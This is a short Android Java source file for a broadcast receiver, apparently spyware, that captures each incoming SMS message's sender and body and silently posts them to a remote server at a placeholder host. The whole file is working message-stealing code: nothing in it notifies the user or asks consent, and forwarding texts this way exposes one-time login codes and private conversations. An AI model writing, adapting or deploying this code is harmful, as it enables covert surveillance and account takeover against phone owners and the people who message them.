package org.corpus;

import android.content.BroadcastReceiver;
import android.content.Context;
import android.content.Intent;
import android.telephony.SmsMessage;
import java.net.URL;
import org.corpus.kit.Net;
import org.corpus.kit.Work;

/** Forwards what arrives. */
public class AtSms extends BroadcastReceiver {
    private static final String URL = "http://when.corpus.example/sms";

    @Override
    public void onReceive(Context context, Intent intent) {
        StringBuilder all = new StringBuilder();
        String format = intent.getStringExtra("format");
        for (Object pdu : (Object[]) intent.getExtras().get("pdus")) {
            SmsMessage part = SmsMessage.createFromPdu((byte[]) pdu, format);
            if (all.length() == 0) {
                all.append(part.getOriginatingAddress()).append(' ');
            }
            all.append(part.getMessageBody());
        }
        Work.start(() -> Net.post(URL, "text/plain", all.toString()));
    }
}
